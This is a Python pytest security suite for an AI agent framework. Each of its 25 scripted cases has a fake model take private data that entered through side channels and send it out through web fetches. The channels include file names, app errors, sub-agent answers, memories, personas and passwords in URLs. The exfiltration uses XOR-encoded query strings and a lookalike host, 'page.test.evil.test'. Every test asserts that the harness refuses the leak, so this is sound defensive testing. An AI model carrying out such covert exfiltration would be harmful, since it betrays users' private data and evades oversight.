"""Private data comes into a conversation by side doors as well: errors, names, sub-agents, refusals (S8, ASI01).

In each story the person first says yes to a harmless page of a host. What came in by a side door must then be asked
about on that very host, with the exact address, though nobody could find it in there.
"""

from __future__ import annotations

from collections.abc import Awaitable, Callable
from pathlib import Path

import pytest
from tests.security.stages import SECRET, Stage, allow, stage

from aule.contracts.access.agent import Agent, Allowed
from aule.contracts.runs.run import Run
from aule.testing import call, say
from aule.testing.scripted_model import Response

Story = Callable[[Stage], Awaitable[None]]
ENCRYPTED = bytes(letter ^ 0x5A for letter in SECRET.encode()).hex()


def out(stage: Stage, name: str) -> Response:
    """Send the secret in a way nobody can read to the host that was allowed."""
    return stage.leak(f"/{name}?d={ENCRYPTED}")


async def after_a_page(stage: Stage, name: str, *script: Response, words: str = "look at it") -> Run:
    return await stage.ask(words, stage.fetch("/page"), *script, out(stage, name))


async def names_in_a_note_that_is_missing(stage: Stage) -> None:
    stage.write("notes/Ana earns 84123.md", "# Ana earns 84123\n\nx")
    await after_a_page(stage, "note", call("core.read_note", {"title": "Ana earns"}))


async def names_in_an_artifact_that_is_missing(stage: Stage) -> None:
    async def pieces():
        yield b"x"

    await stage.aule.kernel.uploads.add("Ana earns 84123.txt", pieces())
    await after_a_page(stage, "artifact", call("core.read_artifact", {"artifact": "Ana"}))


async def names_in_a_schedule_that_is_missing(stage: Stage) -> None:
    await stage.by_hand("core.schedule_task", {"title": "Ana earns 84123", "task": "x", "cron": "0 7 * * *"})
    await after_a_page(stage, "schedule", call("core.cancel_scheduled", {"schedule": "Ana"}))


async def names_in_a_listing(stage: Stage) -> None:
    stage.write("Ana earns 84123.txt", "x")
    await after_a_page(stage, "listing", call("core.list_dir", {}))


async def whether_a_file_is_there(stage: Stage) -> None:
    stage.write("a/Ana-KQ-7351.txt", "x")
    await after_a_page(stage, "glob", call("core.file_search", {"glob": "**/*KQ-7351*"}))


async def names_in_an_app(stage: Stage) -> None:
    await stage.by_hand("atlas.create_company", {"name": "Ana Souza Holding 84123"})
    await after_a_page(stage, "atlas", call("atlas.search", {"q": "Souza"}))


async def names_in_an_error_of_an_app(stage: Stage) -> None:
    await stage.by_hand("atlas.create_company", {"name": "Zulu 7351 Holding"})
    await after_a_page(stage, "atlas-error", call("atlas.summary", {"company": "Zulo 7351"}))


async def names_in_an_archive(stage: Stage) -> None:
    import zipfile

    with zipfile.ZipFile(stage.aule.workspace / "in.zip", "w") as archive:
        archive.writestr("Ana earns 84123.txt", "x")
    await after_a_page(stage, "archive", call("core.extract_archive", {"path": "in.zip", "into": "out"}))


async def what_a_person_says_with_a_no(stage: Stage) -> None:
    stage.aule.model.add(
        stage.fetch("/page"),
        call("core.write_file", {"path": "x.md", "content": "x"}),
        out(stage, "no"),
        say("done"),
    )
    await stage.aule.ask("look at it")
    await stage.aule.decide()
    no = await stage.aule.decide("deny", answer="No, the door code KQ-7351-ZULU does not belong in a file")
    await stage.settle(no)


async def what_an_apps_agent_tells_its_delegate(stage: Stage) -> None:
    """An app's agent is told of its data by itself; its answer brings them to whoever sent it."""
    brief = {"briefs": [{"task": "what do we earn?", "agent": "atlas"}]}
    await after_a_page(stage, "delegate", call("core.delegate", brief), say("Ana earns 84123"))


async def what_an_apps_agent_tells_another(stage: Stage) -> None:
    first = {"briefs": [{"task": "what do we earn?", "agent": "atlas"}]}
    second = {"briefs": [{"task": "fetch it"}]}
    stage.aule.model.add(stage.fetch("/page"), call("core.delegate", first), say("Ana earns 84123"))
    stage.aule.model.add(call("core.delegate", second), out(stage, "sibling"), say("sent"), say("done"))
    await stage.ask_and_watch("look at it")


async def what_an_apps_agent_told_before(stage: Stage) -> None:
    """The conversation goes on with another agent; what was said in it stays."""
    talk = await stage.ask("what do we earn?", agent="atlas")
    conversation = await stage.aule.kernel.conversations.get(talk.session_id or "")
    moved = conversation.model_copy(update={"agent": "assistant"})
    await stage.aule.kernel.documents.save_conversation(moved, expected=conversation.version)
    await stage.ask("and now?", stage.fetch("/page"), out(stage, "before"), talk=talk)


async def what_a_project_tells_its_agents(stage: Stage) -> None:
    project = await stage.aule.kernel.documents.create_project("Secret", instructions=f"Know this: {SECRET}")
    await stage.ask("look at it", stage.fetch("/page"), out(stage, "project"), project=project.id)


async def what_a_persona_knows(stage: Stage) -> None:
    persona = Agent(id="ana", name="Ana", persona_text=f"You know: {SECRET}", capabilities=Allowed(allow=["core.*"]))
    await stage.aule.kernel.documents.save_agent(persona, expected=None)
    await stage.ask("look at it", stage.fetch("/page"), out(stage, "persona"), agent="ana")


async def what_is_recalled_after_a_pause(stage: Stage) -> None:
    """A memory that was written while a turn waited stands in its prompt from then on."""
    stage.aule.model.add(stage.fetch("/page"), stage.fetch("/page2", host="two.test"), out(stage, "pause"), say("done"))
    await stage.aule.ask("tell me about the zulu door")
    run = await stage.aule.decide()
    await stage.by_hand("core.memory_save", {"content": SECRET, "pinned": True})
    run = await stage.aule.decide()
    await stage.settle(run)


async def a_password_in_an_address(stage: Stage) -> None:
    await after_a_page(stage, "dsn", words="does postgres://ana:KQ-7351-ZULU@db.firm/pay work with libpq?")


async def a_link_with_a_key(stage: Stage) -> None:
    link = "https://drive.test/d/1?token=KQ7351ZULU84123"
    await after_a_page(stage, "link", words=f"what is this kind of link for: {link}")


async def plain_words_nobody_can_find(stage: Stage) -> None:
    """What is typed need not look personal to be private."""
    await after_a_page(stage, "typed", words="Read the page. I want to leave Bruno before he gets to know it")


async def an_answer_to_a_question(stage: Stage) -> None:
    asked = call("core.ask_user", {"question": "Which code?"})
    stage.aule.model.add(stage.fetch("/page"), asked, out(stage, "answer"), say("done"))
    await stage.aule.ask("look at it")
    await stage.aule.decide()
    await stage.settle(await stage.aule.decide("answer", answer="the pin is KQ-7351-ZULU"))


async def a_rule_for_every_address(stage: Stage) -> None:
    allow(stage, "core.web_fetch(**)", "core.web_fetch(http://**)")
    stage.write("diary.txt")
    await after_a_page(stage, "every", call("core.read_file", {"path": "diary.txt"}))


async def a_rule_for_a_site(stage: Stage) -> None:
    allow(stage, f"core.web_fetch({stage.url('/**')})")
    stage.write("diary.txt")
    await after_a_page(stage, "site", call("core.read_file", {"path": "diary.txt"}))


async def a_rule_for_a_site_and_its_namesake(stage: Stage) -> None:
    """A star behind a name is meant for the port; it opens no host that begins alike."""
    allow(stage, "core.web_fetch(http://page.test*/**)")
    stage.write("diary.txt")
    reading = call("core.read_file", {"path": "diary.txt"})
    await stage.ask("look", stage.fetch("/page"), reading, stage.leak("/c", host="page.test.evil.test"))


async def a_rule_for_a_site_and_a_number_of_the_diary(stage: Stage) -> None:
    allow(stage, "core.web_fetch(http://page.test*/**)")
    stage.write("diary.txt")
    await stage.ask("look", call("core.read_file", {"path": "diary.txt"}), stage.leak("/x/84123"))


async def a_rule_of_the_agents_own(stage: Stage) -> None:
    own = {"allow": ["core.web_fetch(**)", "core.web_fetch"]}
    agent = Agent.model_validate({"id": "free", "name": "Free", "capabilities": {"allow": ["core.*"]}, "policy": own})
    await stage.aule.kernel.documents.save_agent(agent, expected=None)
    stage.write("diary.txt")
    script = [stage.fetch("/page"), call("core.read_file", {"path": "diary.txt"}), out(stage, "own")]
    await stage.ask("look at it", *script, agent="free")


async def a_rule_for_all_there_is(stage: Stage) -> None:
    allow(stage, "*")
    stage.write("diary.txt")
    stage.leaks.add(SECRET)
    drawing = call("core.generate_image", {"prompt": SECRET})
    await stage.ask("look at it", call("core.read_file", {"path": "diary.txt"}), drawing)


STORIES: tuple[Story, ...] = (
    names_in_a_note_that_is_missing,
    names_in_an_artifact_that_is_missing,
    names_in_a_schedule_that_is_missing,
    names_in_a_listing,
    whether_a_file_is_there,
    names_in_an_app,
    names_in_an_error_of_an_app,
    names_in_an_archive,
    what_a_person_says_with_a_no,
    what_an_apps_agent_tells_its_delegate,
    what_an_apps_agent_tells_another,
    what_an_apps_agent_told_before,
    what_a_project_tells_its_agents,
    what_a_persona_knows,
    what_is_recalled_after_a_pause,
    a_password_in_an_address,
    a_link_with_a_key,
    plain_words_nobody_can_find,
    an_answer_to_a_question,
    a_rule_for_every_address,
    a_rule_for_a_site,
    a_rule_for_a_site_and_its_namesake,
    a_rule_for_a_site_and_a_number_of_the_diary,
    a_rule_of_the_agents_own,
    a_rule_for_all_there_is,
)


@pytest.mark.parametrize("story", STORIES, ids=lambda story: story.__name__)
async def test_what_came_in_by_a_side_door_does_not_leave_unasked(story: Story, tmp_path: Path) -> None:
    """K-3, S8: one harmless yes, then a request that carries what a side door let in."""
    async with stage(tmp_path) as played:
        await story(played)
        assert played.refused()
